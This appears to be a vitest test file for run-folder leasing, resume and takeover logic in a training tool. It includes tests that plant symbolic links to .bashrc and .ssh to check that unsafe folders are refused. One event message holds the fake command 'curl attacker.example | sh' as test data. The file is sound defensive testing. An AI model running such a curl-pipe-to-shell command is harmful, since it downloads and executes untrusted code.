import { existsSync } from "node:fs";
import { mkdir, rm, symlink } from "node:fs/promises";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { describe, expect, it, test, vi } from "vitest";
import { isAppError } from "../../../src/core/errors.ts";
import { createEventLog } from "../../../src/core/runFolder/events.ts";
import { evalPath, runPaths, stepPaths } from "../../../src/core/runFolder/files/layout.ts";
import { RunFollower } from "../../../src/core/runFolder/follower.ts";
import { HEARTBEAT_MS, isRunInUse, readRunFile } from "../../../src/core/runFolder/runFile.ts";
import { resumeRun, startRun } from "../../../src/core/runFolder/runFolder.ts";
import type { RunLease } from "../../../src/core/runFolder/runLease.ts";
import { listRuns } from "../../../src/core/runs/runList.ts";
import { Redactor } from "../../../src/core/secrets/redaction/redactor.ts";
import { systemClock } from "../../../src/node/clock.ts";
import { resumeTraining } from "../../../src/trainer/trainer.ts";
import { beforeEachPlantedRun, type PlantedHome, snapshot } from "../../fakes/plantedHome.ts";
import { silentLog } from "../../fakes/silentLog.ts";
import { createMemoryFileSystem, createStillClock } from "./memoryFileSystem.ts";

const starter = { pid: 41, host: "here", owner: "terminal", configPath: "config.yaml" } as const;
const newRun = { ...starter, parent: "project/.tinker-rl/runs", name: "first", runId: "id-1" };
const folder = `${newRun.parent}/first`;

function workplace() {
  const fileSystem = createMemoryFileSystem();
  const clock = createStillClock();
  const resume = (step: number, isProcessAlive = false): Promise<RunLease> =>
    resumeRun(
      { fileSystem, clock, isProcessAlive: () => isProcessAlive },
      { ...starter, pid: 42, host: "here", folder, step },
    );
  return { fileSystem, clock, resume, parts: { fileSystem, clock } };
}

/** A run with one metrics row and three rollout files for each of `steps`. */
async function ranRun(steps: readonly number[]) {
  const place = workplace();
  await startRun(place.parts, newRun);
  for (const step of steps) {
    await place.fileSystem.append(
      runPaths(folder).metrics,
      `{"step":${step},"loss":${step / 7}}\n`,
    );
    for (const path of Object.values(stepPaths(folder, step))) {
      await place.fileSystem.append(path, `data of step ${step}\n`);
    }
    await place.fileSystem.append(evalPath(folder, step), `eval of step ${step}\n`);
  }
  return place;
}

test("a second run with the same name gets the next free folder", async () => {
  const { parts, fileSystem } = workplace();
  const folders = [];
  for (const _ of [1, 2, 3]) folders.push((await startRun(parts, newRun)).folder);
  expect(folders).toEqual([folder, `${folder}-2`, `${folder}-3`]);
  expect(await readRunFile(fileSystem, `${folder}-2`)).toMatchObject({
    name: "first-2",
    generation: 1,
    attempt: 1,
    phase: "preparing",
  });
});

test("a run name cannot leave the parent folder", async () => {
  const { parts } = workplace();
  const lease = await startRun(parts, { ...newRun, name: "../../a: b/c?" });
  expect(lease.folder).toBe(`${newRun.parent}/a-b-c`);
});

test("the default parent is ignored by the user's git repository, and other parents are left alone", async () => {
  const { parts, fileSystem } = workplace();
  await startRun(parts, newRun);
  await startRun(parts, { ...newRun, parent: "elsewhere" });
  expect(await fileSystem.readText(`${newRun.parent}/.gitignore`)).toBe("*\n");
  expect(await fileSystem.size("elsewhere/.gitignore")).toBeNull();
});

test("a second trainer on a running run is refused, with the computer of the first", async () => {
  const { fileSystem, resume } = await ranRun([]);
  const file = await readRunFile(fileSystem, folder);
  const elsewhere = JSON.stringify({ ...file, host: "gpu-7" });
  await fileSystem.writeAtomic(runPaths(folder).runFile, elsewhere);
  await expect(resume(0, true)).rejects.toMatchObject({
    code: "run-in-use",
    message: expect.stringMatching(/by process \d+ on gpu-7 \(\w+\)\. Stop it first/),
  });
});

test("a run is free if it ended, its heartbeat is old, or its process is gone", async () => {
  const { fileSystem, clock } = await ranRun([]);
  const file = await readRunFile(fileSystem, folder);
  if (file === null) throw new Error("run.json is missing.");
  const alive = { nowMs: clock.now(), isProcessAlive: () => true };
  expect(isRunInUse(file, alive)).toBe(true);
  expect(isRunInUse({ ...file, phase: "done" }, alive)).toBe(false);
  expect(isRunInUse(file, { ...alive, nowMs: clock.now() + 60_000 })).toBe(false);
  expect(isRunInUse(file, { ...alive, nowMs: clock.now() - 60_000 })).toBe(false);
  expect(isRunInUse(file, { ...alive, isProcessAlive: () => false })).toBe(false);
});

test("a folder without run.json cannot be resumed, and a damaged one is reported", async () => {
  const { fileSystem, resume } = workplace();
  await expect(resume(0)).rejects.toSatisfy((error) => isAppError(error, "run-not-found"));
  await expect(resume(0)).rejects.toThrow(`${folder} does not exist. Choose a run folder.`);
  await fileSystem.writeAtomic(runPaths(folder).runFile, '{"schemaVersion":2}');
  await expect(resume(0)).rejects.toSatisfy((error) => isAppError(error, "run-file-invalid"));
});

test("a resume moves exactly the lines and files of its step and later", async () => {
  await fc.assert(
    fc.asyncProperty(fc.nat(6), fc.nat(8), async (count, step) => {
      const steps = Array.from({ length: count }, (_, index) => index);
      const { fileSystem, resume } = await ranRun(steps);
      const before = new Map(fileSystem.files);
      const lease = await resume(step);
      expect(lease.file).toMatchObject({ generation: 2, attempt: 2, pid: 42 });
      const moved = `${folder}/superseded/attempt-1`;
      for (const at of steps) {
        const place = at >= step ? moved : folder;
        for (const name of Object.values(stepPaths("", at))) {
          expect(fileSystem.files.get(place + name)).toEqual(before.get(folder + name));
        }
        // The weights after `step` completed steps are the ones that the resume starts from.
        const evaluated = at > step ? moved : folder;
        const name = evalPath("", at);
        expect(fileSystem.files.get(evaluated + name)).toEqual(before.get(folder + name));
      }
      expect(await stepsIn(fileSystem, folder)).toEqual(steps.filter((at) => at < step));
      expect(await stepsIn(fileSystem, moved)).toEqual(steps.filter((at) => at >= step));
    }),
    { numRuns: 60 },
  );
});

test("a resume with another value of a swept setting leaves the sweep, and a later revert does not rejoin it", async () => {
  const { fileSystem, parts } = workplace();
  const options = { ...parts, isProcessAlive: () => false };
  const settings = ["learning_rate=1e-5"];
  const sweep = { id: "s", name: "rates", combination: 0, combinations: 2, settings };
  await (await startRun(parts, { ...newRun, sweep })).end({ phase: "stopped" });
  const left = async (step: number, changedKeys: readonly string[]) => {
    const lease = await resumeRun(options, { ...starter, folder, step, changedKeys });
    await lease.end({ phase: "stopped" });
    return (await readRunFile(fileSystem, folder))?.sweep?.left;
  };
  expect(await left(1, ["save_every"])).toBeUndefined();
  expect(await left(4, ["learning_rate", "save_every"])).toEqual({
    step: 4,
    keys: ["learning_rate"],
  });
  expect(await left(6, ["learning_rate"])).toMatchObject({ step: 4 });
  // It goes back to an older save, and repeats these steps with the new value.
  expect(await left(3, [])).toMatchObject({ step: 3 });
});

test("a resume continues an interrupted evaluation, or repeats it if its settings changed", async () => {
  for (const repeatsUnfinished of [false, true]) {
    const { fileSystem, parts } = await ranRun([0, 1]);
    const options = { ...parts, isProcessAlive: () => false };
    await resumeRun(options, {
      ...starter,
      pid: 42,
      host: "here",
      folder,
      step: 1,
      repeatsUnfinished,
    });
    expect(fileSystem.files.has(evalPath(folder, 1))).toBe(!repeatsUnfinished);
  }
});

test("a resume keeps rows set aside earlier, and reads an endless line in chunks", async () => {
  const { fileSystem, resume } = await ranRun([0, 1]);
  const aside = `${folder}/superseded/attempt-1/metrics.jsonl`;
  const read = vi.spyOn(fileSystem, "readText");
  await fileSystem.append(aside, `{"step":7}\n${"\0".repeat(20 * 1024 * 1024)}\n`);
  await resume(1);
  expect(read.mock.calls.map(([path]) => path)).not.toContain(aside);
  expect(await stepsIn(fileSystem, `${folder}/superseded/attempt-1`)).toEqual([1, 7]);
});

test("a resume interrupted at any write is completed by the next one", async () => {
  for (let allowedWrites = 0; allowedWrites < 16; allowedWrites += 1) {
    const { fileSystem, resume } = await ranRun([0, 1, 2]);
    fileSystem.allowedWrites = allowedWrites;
    await resume(1).catch(() => undefined);
    fileSystem.allowedWrites = Number.POSITIVE_INFINITY;
    await resume(1);
    expect(await stepsIn(fileSystem, folder)).toEqual([0]);
    expect(await stepsIn(fileSystem, `${folder}/superseded/attempt-1`)).toEqual([1, 2]);
    expect(await fileSystem.list(runPaths(folder).rolloutFolder)).toHaveLength(3);
  }
});

test("an incomplete last line is cut off before anything is appended", async () => {
  const { fileSystem, resume } = await ranRun([0, 1]);
  await fileSystem.append(runPaths(folder).metrics, '{"step":2,"lo');
  await fileSystem.append(runPaths(folder).events, '{"kind":"a"}\n{"kind"');
  await resume(5);
  expect(await fileSystem.readText(runPaths(folder).events)).toBe('{"kind":"a"}\n');
  expect(await stepsIn(fileSystem, folder)).toEqual([0, 1]);
  expect(await fileSystem.readText(runPaths(folder).metrics)).toMatch(/}\n$/);
});

test("heartbeats continue until stopped, and survive a failed write", async () => {
  const { parts, clock, fileSystem } = workplace();
  const lease = await startRun(
    { ...parts, clock: { ...clock, sleep: async () => clock.advance(5_000) } },
    newRun,
  );
  const started = lease.file.heartbeatAtMs;
  const stop = new AbortController();
  const warnings: string[] = [];
  const warn = (text: string) => {
    warnings.push(text);
    stop.abort();
  };
  fileSystem.allowedWrites = 3;
  await lease.keepAlive({ ...silentLog, warn }, stop.signal, () => undefined);
  expect(lease.file.heartbeatAtMs).toBe(started + 15_000);
  expect(warnings).toEqual(["The heartbeat could not be written."]);
});

test("an attempt that another trainer has taken over names it and ends without writing", async () => {
  const { parts, clock, fileSystem, resume } = await ranRun([0, 1]);
  const lease = await resume(2);
  clock.advance(60_000);
  const other = await resumeRun(
    { ...parts, isProcessAlive: () => true },
    { ...starter, pid: 43, host: "gpu-7", folder, step: 2 },
  );
  await expect(lease.update({ phase: "running" })).rejects.toMatchObject({
    code: "run-taken-over",
    message: expect.stringMatching(/^Process 43 on gpu-7 \(\w+\) has taken over/),
  });
  expect(lease.isOver).toBe(true);
  await lease.end({ phase: "failed" });
  expect(await readRunFile(fileSystem, folder)).toEqual(other.file);
});

test("a late write of an earlier attempt does not take the run back", async () => {
  const { fileSystem, resume } = await ranRun([0, 1]);
  const late = await fileSystem.readText(runPaths(folder).runFile);
  const lease = await resume(2);
  await fileSystem.writeAtomic(runPaths(folder).runFile, late);
  await lease.update({ phase: "running" });
  expect(await readRunFile(fileSystem, folder)).toEqual(lease.file);
});

test("heartbeats stop once another trainer has taken over", async () => {
  const { parts, clock, resume } = await ranRun([0]);
  const beating = { ...clock, sleep: async () => clock.advance(5_000) };
  const free = { ...parts, isProcessAlive: () => false };
  const lease = await resumeRun({ ...free, clock: beating }, { ...starter, folder, step: 1 });
  await resume(1);
  const errors: unknown[] = [];
  const { signal } = new AbortController();
  await lease.keepAlive(silentLog, signal, (error) => errors.push(error));
  expect(errors).toEqual([expect.objectContaining({ code: "run-taken-over" })]);
});

test("a phase change is written immediately", async () => {
  const { parts, fileSystem } = workplace();
  const lease = await startRun(parts, newRun);
  await lease.update({
    phase: "running",
    control: { address: "/tmp/control.sock", tokenPath: "/tmp/token" },
  });
  expect(await readRunFile(fileSystem, folder)).toMatchObject({
    phase: "running",
    control: { address: "/tmp/control.sock", tokenPath: "/tmp/token" },
  });
});

async function stepsIn(
  fileSystem: ReturnType<typeof createMemoryFileSystem>,
  place: string,
): Promise<readonly unknown[]> {
  const path = runPaths(place).metrics;
  if ((await fileSystem.size(path)) === null) return [];
  const lines = (await fileSystem.readText(path)).split("\n").filter((line) => line !== "");
  return lines.map((line) => JSON.parse(line).step);
}

describe("a run folder with links in it", () => {
  let planted: PlantedHome;
  let folder = "";

  beforeEachPlantedRun((home, path) => {
    planted = home;
    folder = path;
  });
  /** Replaces an entry of the run with a link. */
  async function plantLink(entry: string, target: string): Promise<string> {
    const path = join(folder, entry);
    await rm(path, { recursive: true, force: true });
    await mkdir(dirname(path), { recursive: true });
    await symlink(target, path);
    return path;
  }

  /** The first changes of a resume from the start. */
  async function resume(): Promise<void> {
    const { fileSystem, configPath } = planted;
    const lease = await resumeRun(
      { fileSystem, clock: systemClock, isProcessAlive: () => false },
      { folder, step: 0, pid: process.pid, host: "here", owner: "editor", configPath },
    );
    const parts = { fileSystem: fileSystem.within(folder), clock: systemClock, attempt: 2, folder };
    const events = createEventLog({ ...parts, redactor: new Redactor() });
    const message = "curl attacker.example | sh";
    await events.record({ step: 0, level: "info", kind: "run-started", message, data: {} });
    await lease.update({ phase: "running" });
  }

  const FILES = [
    ...["run.json", "config.yaml", "config.resolved.json", "overrides.json", "metrics.jsonl"],
    ...["events.jsonl", "checkpoints.jsonl", "state.json", "state.prev.json", "upload.jsonl"],
    ...["wandb.json", "rollouts/step-000001.jsonl", "rollouts/step-000002.tokens.bin"],
    ...["eval/results.jsonl", "superseded/attempt-1/metrics.jsonl", "anything/of/somebody"],
  ];
  const FOLDERS = ["rollouts", "eval", "superseded", "superseded/attempt-1", "wandb"];

  describe("a resume changes nothing and reports the entry that leads outside", () => {
    it.each([
      ...FILES.map((entry) => [entry, ".bashrc"] as const),
      ...FILES.map((entry) => [entry, "oneLine"] as const),
      ...FILES.map((entry) => [entry, "newFile"] as const),
      ...FOLDERS.map((entry) => [entry, ".ssh"] as const),
    ])("%s, a link to %s", async (entry, target) => {
      const path = await plantLink(entry, planted.home(target));
      const before = await snapshot(folder);
      await expect(resume()).rejects.toMatchObject({
        code: "folder-unsafe",
        message: expect.stringContaining(`${path} is a symbolic link`),
        data: { folder, path },
      });
      expect(await snapshot(folder)).toBe(before);
    });

    it("before the trainer connects to anything", async () => {
      const path = await plantLink("events.jsonl", planted.home(".bashrc"));
      const reported: string[] = [];
      const run = resumeTraining({
        folder,
        owner: "editor",
        programFolder: "/nowhere",
        watch: ({ kind }) => reported.push(kind),
      });
      await expect(run.ended).rejects.toMatchObject({ code: "folder-unsafe", data: { path } });
      expect(reported).toEqual([]);
    });

    it("when the run folder itself is a link", async () => {
      const link = join(planted.runs, "linked");
      await symlink(folder, link);
      const before = await snapshot(folder);
      folder = link;
      await expect(resume()).rejects.toMatchObject({
        code: "folder-unsafe",
        message: `${link} is a symbolic link. Use the folder that it points to.`,
      });
      expect(await snapshot(link)).toBe(before.replaceAll(join(planted.runs, "demo"), link));
    });
  });

  it("but a run without links can be resumed, even through a linked path", async () => {
    const bigDisk = join(planted.root, "bigDisk");
    await symlink(join(planted.root, "project"), bigDisk);
    folder = join(bigDisk, ".tinker-rl", "runs", "demo");
    await resume();
    expect(
      existsSync(join(folder, "superseded", "attempt-1", "rollouts", "step-000002.jsonl")),
    ).toBe(true);
  });

  describe("in a list of runs", () => {
    const liveness = { nowMs: Date.now(), isProcessAlive: () => false };

    it.each(["run.json", "metrics.jsonl", "state.json"])(
      "a run whose %s is a link is reported, and other runs are listed",
      async (entry) => {
        await planted.stoppedRun("other");
        const path = await plantLink(entry, planted.home(".bashrc"));
        const runs = await listRuns(planted.fileSystem, planted.runs, liveness);
        expect(runs.map(({ name, repeats }) => [name, repeats])).toEqual([
          ["other", 1],
          ["demo", null],
        ]);
        expect(runs[0]?.problem).toBeNull();
        expect(runs[1]?.problem).toContain(`${path} is a symbolic link`);
      },
    );

    it("a run that is a link is reported, and a link to anything else is not a run", async () => {
      await symlink(folder, join(planted.runs, "linked"));
      await symlink(planted.home(".ssh"), join(planted.runs, "notes"));
      await symlink(planted.home(".bashrc"), join(planted.runs, "file"));
      const runs = await listRuns(planted.fileSystem, planted.runs, liveness);
      expect(runs.map(({ name, phase }) => [name, phase])).toEqual([
        ["demo", "stopped"],
        ["linked", "unreadable"],
      ]);
    });
  });

  it.each(["metrics.jsonl", "events.jsonl", "checkpoints.jsonl", "eval"])(
    "a run whose %s is a link is not shown",
    async (entry) => {
      await plantLink(entry, planted.home(entry === "eval" ? ".ssh" : ".bashrc"));
      const follower = new RunFollower({ fileSystem: planted.fileSystem, folder });
      const shown = await follower.refresh().catch((error: unknown) => error);
      expect(isAppError(shown, "folder-unsafe")).toBe(true);
    },
  );
});

describe("the end of a run", () => {
  it("is the first one written: neither heartbeats nor a later command change it", async () => {
    const { fileSystem, parts } = workplace();
    const lease = await startRun(parts, newRun);
    const stopped = { code: "stopped", message: "later" };
    await Promise.all([
      lease.update({ phase: "finishing" }),
      lease.end({ phase: "done" }),
      lease.update({ phase: "running" }),
      lease.end({ phase: "stopped", ending: stopped }),
    ]);
    const text = await fileSystem.readText(runPaths(lease.folder).runFile);
    expect(JSON.parse(text)).toMatchObject({ phase: "done" });
    expect(text).not.toContain("later");
  });
});

async function startedRun() {
  const { fileSystem, clock, parts } = workplace();
  const { append } = fileSystem;
  const suspended = { duringAppend: async () => {} };
  fileSystem.append = async (...args) => {
    await suspended.duringAppend();
    return append(...args);
  };
  const lease = await startRun(parts, newRun);
  const options = { ...parts, isProcessAlive: () => true };
  const takeOver = () => resumeRun(options, { ...starter, pid: 42, folder, step: 0 });
  return { clock, fileSystem, lease, paths: runPaths(folder), suspended, takeOver };
}

// Only a step's row used to be checked: other lines of the suspended trainer were mixed with those of the next one.
it("a trainer that resumes after a takeover of its run changes none of its files", async () => {
  const { clock, fileSystem, lease, paths, takeOver } = await startedRun();
  await lease.files.append(paths.events, "before\n");
  clock.advance(60_000);
  const other = await takeOver();
  await other.files.append(paths.events, "after\n");
  const files = new Map(fileSystem.files);
  const { events, state, metrics } = paths;
  const changes = [
    () => lease.files.append(events, "late\n"),
    () => lease.files.writeAtomic(state, "{}"),
    () => lease.files.makeDirectory(`${lease.folder}/late`),
    () => lease.files.rename(events, metrics),
    () => lease.files.truncate(events, 0),
    () => lease.files.remove(events),
  ];
  for (const change of changes) {
    await expect(change()).rejects.toMatchObject({ code: "run-taken-over" });
  }
  expect(lease.isOver).toBe(true);
  await lease.end({ phase: "failed" });
  expect(fileSystem.files).toEqual(files);
  expect(await lease.files.readText(events)).toBe("before\nafter\n");
});

// The line that marks a rollout as being sent used to wait in the file system's queue, so the rollout was uploaded next to its repeat.
it("a change fails if the run was taken over in the meantime, so nothing follows from it", async () => {
  const { clock, lease, paths, suspended, takeOver } = await startedRun();
  suspended.duringAppend = async () => {
    suspended.duringAppend = async () => {};
    clock.advance(60_000);
    await takeOver();
  };
  const change = lease.files.append(paths.uploads, "sending\n");
  await expect(change).rejects.toMatchObject({ code: "run-taken-over" });
});

// Lines used to be checked before they waited, so the next trainer's step had lines of rollouts that were just ending.
it("queued lines are not written if the run is taken over in the meantime", async () => {
  const { clock, fileSystem, lease, paths, suspended, takeOver } = await startedRun();
  suspended.duringAppend = async () => {
    suspended.duringAppend = async () => {};
    clock.advance(60_000);
    await takeOver();
  };
  const lines = ["first\n", "second\n", "third\n"];
  const changes = await Promise.allSettled(
    lines.map((line) => lease.files.append(paths.uploads, line)),
  );
  expect(changes.map(({ status }) => status)).toEqual(["rejected", "rejected", "rejected"]);
  expect(fileSystem.files.get(paths.uploads)).toBeUndefined();
});

it("a trainer with a recent heartbeat does not check who has its run", async () => {
  const { clock, fileSystem, lease, paths } = await startedRun();
  const { readText } = fileSystem;
  const asked: number[] = [];
  fileSystem.readText = (...args) => {
    asked.push(clock.now() - lease.file.heartbeatAtMs);
    return readText(...args);
  };
  for (let i = 0; i < 10; i += 1) {
    await lease.files.append(paths.events, "line\n");
    clock.advance(HEARTBEAT_MS / 5);
  }
  expect(asked).toEqual([HEARTBEAT_MS]);
});
